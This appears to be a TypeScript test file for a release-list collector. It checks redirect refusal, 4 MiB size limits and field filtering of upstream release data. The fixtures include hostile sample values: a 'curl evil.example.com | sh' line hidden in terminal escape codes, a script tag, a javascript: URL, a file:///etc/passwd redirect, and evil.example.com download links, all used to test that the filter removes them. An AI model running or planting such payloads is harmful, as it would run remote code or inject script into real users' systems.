import { mkdtempSync, rmSync, writeFileSync } from 'node:fs'
import { createServer, type IncomingMessage, type Server, type ServerResponse } from 'node:http'
import type { AddressInfo } from 'node:net'
import { tmpdir } from 'node:os'
import { join } from 'node:path'
import { afterAll, beforeAll, describe, expect, it } from 'vitest'
import { collectorConfigSchema } from '../../src/config/schema.js'
import { type Collector, createCollector } from '../../src/server/app.js'
import { openDuckDB } from '../../src/store/duckdb.js'
import type { Store } from '../../src/store/store.js'
import { capturedLog } from '../support/log.js'

/**
 * The releases upstream: no redirect followed but to the same origin over https, no answer over
 * 4 MiB, and only the fields clients read re-served, each checked. The releases file goes through
 * the same filter.
 */

const MINUTE = 60_000
const GOOD = [{ tag_name: 'v3.1.0', draft: false, prerelease: false }]

type Handler = (request: IncomingMessage, response: ServerResponse) => void

/** A real server on 127.0.0.1 whose handler the test swaps, counting the requests it gets. */
async function startServer() {
  const state: { handler: Handler; hits: number } = {
    handler: (_request, response) => response.writeHead(200).end(JSON.stringify(GOOD)),
    hits: 0,
  }
  const server: Server = createServer((request, response) => {
    state.hits++
    state.handler(request, response)
  })
  await new Promise<void>((resolve) => server.listen(0, '127.0.0.1', resolve))
  const origin = `http://127.0.0.1:${(server.address() as AddressInfo).port}`
  const stop = () => new Promise<void>((resolve) => server.close(() => resolve()).closeAllConnections())
  return { state, url: `${origin}/releases`, origin, stop }
}

let folder: string
let store: Store
const opened: Collector[] = []
const servers: { stop(): Promise<void> }[] = []
beforeAll(async () => {
  folder = mkdtempSync(join(tmpdir(), 'attack-upstream-'))
  store = await openDuckDB(join(folder, 'collector.duckdb'))
})
afterAll(async () => {
  for (const collector of opened) await collector.close()
  for (const server of servers) await server.stop()
  await store?.close()
  rmSync(folder, { recursive: true, force: true })
})

async function upstream() {
  const server = await startServer()
  servers.push(server)
  return server
}

/** An in-process collector on a moving clock; `get` asks it for the release list. */
function collectorWith(settings: Record<string, unknown>) {
  let time = Date.parse('2025-03-15T12:00:00Z')
  const log = capturedLog()
  const collector = createCollector({
    config: collectorConfigSchema.parse({ store: 'unused', ...settings }),
    store,
    now: () => new Date(time),
    logger: log.logger,
  })
  const warnings = {
    join: (separator: string) =>
      log
        .events()
        .flatMap(({ event, ...fields }) => (event === 'request' ? [] : [`${event} ${JSON.stringify(fields)}`]))
        .join(separator),
  }
  opened.push(collector)
  const get = async () => {
    const answer = await collector.app.inject({ url: '/repos/baqupio/baqup/releases' })
    return { status: answer.statusCode, body: answer.json() as unknown }
  }
  return { get, warnings, advance: (ms: number) => (time += ms) }
}

describe('--releases-upstream redirects', () => {
  it('does not follow a redirect to another origin', async () => {
    const elsewhere = await upstream()
    const first = await upstream()
    first.state.handler = (_request, response) => response.writeHead(302, { location: elsewhere.url }).end()
    const collector = collectorWith({ releasesUpstream: first.url })
    const answer = await collector.get()
    expect(answer.status).toBe(503)
    expect(answer.body).toMatchObject({ error: { code: 'no-releases' } })
    expect(elsewhere.state.hits).toBe(0)
    expect(collector.warnings.join('\n')).toMatch(/releases-upstream-failed.*redirect/)
  })

  it('does not follow a redirect to the same origin over plain http, nor to https elsewhere', async () => {
    const first = await upstream()
    const targets = [`${first.origin}/elsewhere`, 'https://203.0.113.1/releases', 'file:///etc/passwd']
    for (const target of targets) {
      first.state.hits = 0
      first.state.handler = (request, response) =>
        request.url === '/releases'
          ? response.writeHead(301, { location: target }).end()
          : response.writeHead(200).end(JSON.stringify(GOOD))
      const collector = collectorWith({ releasesUpstream: first.url })
      expect((await collector.get()).status).toBe(503)
      expect(first.state.hits).toBe(1)
    }
  })
})

describe('--releases-upstream size', () => {
  it.each([
    ['declared in Content-Length', true],
    ['streamed without a length', false],
  ])('refuses a 5 MiB answer (%s) and keeps serving the last good copy', async (_, declared) => {
    const server = await upstream()
    const collector = collectorWith({ releasesUpstream: server.url })
    expect(await collector.get()).toEqual({ status: 200, body: GOOD })
    const huge = JSON.stringify(
      Array.from({ length: 5 * 1024 }, (_, n) => ({ tag_name: `v9.${n}.0`, body: 'x'.repeat(1024) })),
    )
    expect(huge.length).toBeGreaterThan(5 * 1024 * 1024)
    server.state.handler = (_request, response) => {
      if (declared) response.writeHead(200, { 'content-length': Buffer.byteLength(huge) })
      else response.writeHead(200)
      // In pieces, as a slow upstream would: the collector stops reading past 4 MiB.
      let sent = 0
      const next = () => {
        if (sent >= huge.length) return void response.end()
        const piece = huge.slice(sent, sent + 256 * 1024)
        sent += piece.length
        if (response.write(piece)) setImmediate(next)
        else response.once('drain', next)
      }
      response.on('error', () => {})
      next()
    }
    collector.advance(10 * MINUTE)
    await collector.get()
    await expect.poll(() => collector.warnings.join('\n')).toMatch(/releases-upstream-failed.*more than 4194304 bytes/)
    expect(await collector.get()).toEqual({ status: 200, body: GOOD })
  })
})

describe('what is re-served', () => {
  const ESCAPE = '\u001b[2J\u001b[31mUPDATE NOW: curl evil.example.com | sh\u0007'
  const answer = [
    {
      tag_name: 'v3.7.0',
      name: ESCAPE,
      draft: false,
      prerelease: false,
      html_url: 'http://evil.example.com/download',
      published_at: '2025-03-01T10:00:00Z',
      body: 'release notes <script>alert(1)</script>',
      author: { login: 'mallory' },
      assets: [{ browser_download_url: 'https://evil.example.com/x' }],
      tarball_url: 'https://evil.example.com/t',
    },
    {
      tag_name: 'v3.6.0',
      name: 'Baqup 3.6.0 "cheddar"',
      draft: false,
      prerelease: false,
      html_url: 'https://github.com/baqupio/baqup/releases/tag/v3.6.0',
      published_at: 'last tuesday',
    },
    { tag_name: 'v3.5.0', name: 'x'.repeat(101), draft: 'false', prerelease: false },
    { tag_name: 'latest', name: 'Latest', draft: false, prerelease: false },
    { tag_name: 'v3.4.0-db.prod.example.com+build', draft: false, prerelease: true },
    { tag_name: 'v3.3.0', name: 'caf\u00e9', draft: false, prerelease: false, html_url: 'javascript:alert(1)' },
    'v3.2.0',
  ]
  const WANTED = [
    { tag_name: 'v3.7.0', name: 'v3.7.0', draft: false, prerelease: false, published_at: '2025-03-01T10:00:00Z' },
    {
      tag_name: 'v3.6.0',
      name: 'Baqup 3.6.0 "cheddar"',
      draft: false,
      prerelease: false,
      html_url: 'https://github.com/baqupio/baqup/releases/tag/v3.6.0',
    },
    { tag_name: 'v3.3.0', name: 'v3.3.0', draft: false, prerelease: false },
  ]

  it('an upstream: only tag_name, name, draft, prerelease, html_url (https) and published_at, each checked', async () => {
    const server = await upstream()
    server.state.handler = (_request, response) => response.writeHead(200).end(JSON.stringify(answer))
    const collector = collectorWith({ releasesUpstream: server.url })
    expect(await collector.get()).toEqual({ status: 200, body: WANTED })
  })

  it('a releases file: the same filter', async () => {
    const releases = join(folder, 'releases.json')
    writeFileSync(releases, JSON.stringify(answer))
    const collector = collectorWith({ releases })
    expect(await collector.get()).toEqual({ status: 200, body: WANTED })
  })

  it('a releases file over 4 MiB is refused', async () => {
    const releases = join(folder, 'huge.json')
    writeFileSync(releases, JSON.stringify([{ tag_name: 'v3.1.0', body: 'x'.repeat(5 * 1024 * 1024) }]))
    const collector = collectorWith({ releases })
    expect((await collector.get()).status).toBe(503)
    expect(collector.warnings.join('\n')).toMatch(/releases-file-unusable.*more than 4194304 bytes/)
  })
})
